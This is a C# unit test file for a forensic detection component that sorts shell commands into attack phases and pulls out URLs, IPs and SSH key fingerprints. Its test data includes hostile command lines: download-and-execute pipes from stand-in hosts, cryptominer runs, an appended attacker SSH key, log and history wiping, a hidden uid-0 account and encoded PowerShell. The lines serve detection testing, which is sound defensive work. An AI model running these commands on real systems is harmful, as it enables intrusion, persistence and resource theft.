using Timeline.Core.Findings;
using Timeline.Detection.Chain;
using Timeline.Tests.Support;
using Xunit;

namespace Timeline.Tests.Detection.Chain;

public sealed class CommandAnalyticTests
{
    private static readonly ChainKnowledge Knowledge = ChainKnowledge.Load(RepoPaths.Sigma);
    private static readonly CommandAnalytic Analytic = new(Knowledge.Indicators, Knowledge.Commands);

    [Theory]
    [InlineData("/tmp/.X25-unix/.rsync/c/kswapd0 -B -o stratum+tcp://pool.supportxmr.com:3333 -p x", "miner-run", AttackPhase.Mining, true)]
    [InlineData("./xmrig -o pool.minexmr.com:4444 -u x", "miner-run", AttackPhase.Mining, true)]
    [InlineData("wget -q -O - http://203.0.113.66/d.sh | sh > /dev/null 2>&1", "download-exec", AttackPhase.Execution, true)]
    [InlineData("(curl -fsSL http://h.example/x.sh || wget -q -O- http://h.example/x.sh) | sh", "download-exec", AttackPhase.Execution, true)]
    [InlineData("wget -q http://198.51.100.77/dota3.tar.gz", "download", AttackPhase.Execution, true)]
    [InlineData("wget https://example.org/release.tar.gz", "download", AttackPhase.Execution, false)]
    [InlineData("echo \"ssh-rsa AAAAB3Nza mdrfckr\" >> .ssh/authorized_keys", "keys-tamper", AttackPhase.Persistence, true)]
    [InlineData("(crontab -l; echo \"* * * * * /usr/bin/true\") | crontab -", "crontab-install", AttackPhase.Persistence, false)]
    [InlineData("history -c", "history-clear", AttackPhase.Evasion, true)]
    [InlineData("rm -rf /var/log/syslog", "log-clear", AttackPhase.Evasion, true)]
    [InlineData("chattr +ia /var/spool/cron/root", "chattr", AttackPhase.Evasion, true)]
    [InlineData("pkill -f kdevtmpfsi", "competitor-kill", AttackPhase.Evasion, true)]
    [InlineData("ssh -i /root/.ssh/id_rsa -oStrictHostKeyChecking=no root@10.0.0.12", "ssh-out", AttackPhase.Lateral, true)]
    [InlineData("ssh admin@db01.example.org", "ssh-out", AttackPhase.Lateral, false)]
    [InlineData("useradd -o -u 0 -g 0 sysadm", "account", AttackPhase.Privilege, true)]
    [InlineData("sysctl -w vm.nr_hugepages=128", "miner-tuning", AttackPhase.Mining, false)]
    [InlineData("uname -a", "recon", AttackPhase.Execution, false)]
    [InlineData("powershell -nop -w hidden -enc SQBFAFgA", "encoded", AttackPhase.Execution, true)]
    public void CommandShapesGiveTheirKindPhaseAndStrength(string command, string kind, AttackPhase phase, bool strong)
    {
        var finding = Analytic.Analyze(command).FirstOrDefault(f => f.Kind == kind);
        Assert.True(finding is not null, $"no {kind} in: {string.Join(", ", Analytic.Analyze(command).Select(f => f.Kind))}");
        Assert.Equal(phase, finding!.Phase);
        Assert.Equal(strong, finding.Strong);
    }

    [Theory]
    [InlineData("ls -la")]
    [InlineData("df -h")]
    [InlineData("systemctl reload nginx")]
    [InlineData("/usr/local/bin/backup.sh >/dev/null 2>&1")]
    [InlineData("cd / && run-parts --report /etc/cron.hourly")]
    [InlineData("tail -n 50 /var/log/messages")]
    [InlineData("psql -U postgres -c '\\l'")]
    public void OrdinaryAdminCommandsRaiseNothing(string command) =>
        Assert.Empty(Analytic.Analyze(command));

    [Fact]
    public void ArtifactsNameUrlsHostsPathsTargetsAndKeys()
    {
        var a = CommandArtifacts.Of("cd /tmp/.x && wget http://198.51.100.7:8220/logo3.jpg; ssh -i /root/.ssh/id_rsa root@10.0.0.12 'echo ok'");
        Assert.Equal(new[] { "http://198.51.100.7:8220/logo3.jpg" }, a.Urls);
        Assert.Contains("198.51.100.7", a.Ips);
        Assert.Contains("/tmp/.x", a.Paths);
        Assert.DoesNotContain("/logo3.jpg", a.Paths);
        var target = Assert.Single(a.SshTargets);
        Assert.Equal(("root", "10.0.0.12", "/root/.ssh/id_rsa"), (target.User, target.Host, target.KeyFile));
    }

    [Fact]
    public void AKeyEchoedInHistoryHasTheFingerprintSshdLogs()
    {
        // The planted key of the ssh-bruteforce-cron-xmrig scenario; sshd logged its use as SHA256:apZix4DY….
        var history = File.ReadAllText(Path.Combine(RepoPaths.SampleLogs, "scenarios", "ssh-bruteforce-cron-xmrig", "root", ".bash_history"));
        Assert.Contains("SHA256:apZix4DYQCNDBpfTdAYV+I/X0a0Z5Wma3bwnIqGmOSg", CommandArtifacts.Of(history).KeyFingerprints);
        Assert.Null(SshKeyFingerprint.Of("not base64!"));
    }
}
